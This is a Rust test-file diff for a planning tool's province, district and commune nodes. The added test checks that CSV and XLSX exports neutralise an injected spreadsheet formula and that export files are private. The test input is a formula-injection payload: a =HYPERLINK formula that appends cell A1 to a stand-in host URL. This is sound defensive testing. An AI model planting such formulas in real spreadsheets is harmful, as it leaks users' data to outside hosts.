@@ -24,7 +24,7 @@ use crate::harness::{entry, TERM};
 
 /// A province, a district and two communes, each with its own node certificate.
 pub struct Tree {
-    pub dir: tempfile::TempDir,
+    pub _dir: tempfile::TempDir,
     pub ca: Authority,
     pub province: Running,
     pub district: Running,
@@ -63,7 +63,7 @@ impl Tree {
         let commune = start_tls(dir.path(), &ca, "16681", Some(district.url())).await;
         let sibling = start_tls(dir.path(), &ca, "16690", Some(district.url())).await;
         Tree {
-            dir,
+            _dir: dir,
             ca,
             province,
             district,
@@ -331,4 +331,37 @@ async fn random_pushes_from_a_real_child_certificate_never_write_when_refused() 
         .await
         .unwrap();
     t.stop().await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn an_exported_formula_is_inert_and_the_file_is_private() {
+    use std::os::unix::fs::PermissionsExt;
+    let dir = tempfile::tempdir().unwrap();
+    let node = crate::harness::start(dir.path(), "40", None, "builtin:2024").await;
+    let mut c = crate::harness::client(&node).await;
+    let formula = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"Xem\")";
+    crate::harness::draft_with(
+        &mut c,
+        "40",
+        vec![crate::harness::province_entry(1, formula)],
+    )
+    .await;
+    for ext in ["csv", "xlsx"] {
+        let out = dir.path().join(format!("x.{ext}"));
+        let status = std::process::Command::new(env!("CARGO_BIN_EXE_quyhoach"))
+            .args(["export", "--node", &node.addr.to_string(), "--what", "plan"])
+            .args(["--unit", "40", "--term", TERM, "--out"])
+            .arg(&out)
+            .status()
+            .unwrap();
+        assert!(status.success());
+        let mode = std::fs::metadata(&out).unwrap().permissions().mode() & 0o777;
+        assert_eq!(mode, 0o600, "{ext} holds full national IDs");
+        if ext == "csv" {
+            let text = std::fs::read_to_string(&out).unwrap();
+            assert!(text.contains("'=HYPERLINK("), "{text}");
+            assert!(!text.contains(",=HYPERLINK(") && !text.contains("\"=HYPERLINK("), "{text}");
+        }
+    }
+    node.stop().await.unwrap();
 }
